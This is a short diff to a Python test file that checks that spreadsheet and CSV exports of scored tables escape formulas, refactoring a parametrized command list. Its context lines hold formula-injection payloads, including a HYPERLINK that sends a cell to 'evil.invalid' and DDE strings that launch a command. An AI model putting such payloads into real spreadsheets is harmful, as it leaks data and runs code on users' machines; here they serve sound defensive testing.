@@ -18,7 +18,7 @@ from tasks.spreadsheets import escape_formula, format_csv, unescape_formula
 from tasks.warehouse.reader import open_for_reading
 from tasks.warehouse.store import open_warehouse
 from tests.tasks.annotation.sheets import filled, read_back, sheet_of, subject
-from tests.tasks.scored_articles import COVERAGE, articles, scored
+from tests.tasks.scored_articles import COVERAGE, TABLES_OF_SCORES, articles, scored
 
 FORMULAS = (
     '=HYPERLINK("https://evil.invalid?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -48,13 +48,7 @@ def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.mark.parametrize(
     "arguments",
-    [
-        ("leaderboard", "--edition", "e"),
-        ("differences", "--edition", "e"),
-        ("analyse", "--edition", "e"),
-        ("compare", "--edition", "e"),
-        ("sql", "SELECT agent, '=1' AS \"@b\" FROM scores"),
-    ],
+    [*TABLES_OF_SCORES, ("sql", "SELECT agent, '=1' AS \"@b\" FROM scores")],
     ids=lambda given: given[0],
 )
 def test_no_cell_of_a_command_runs(
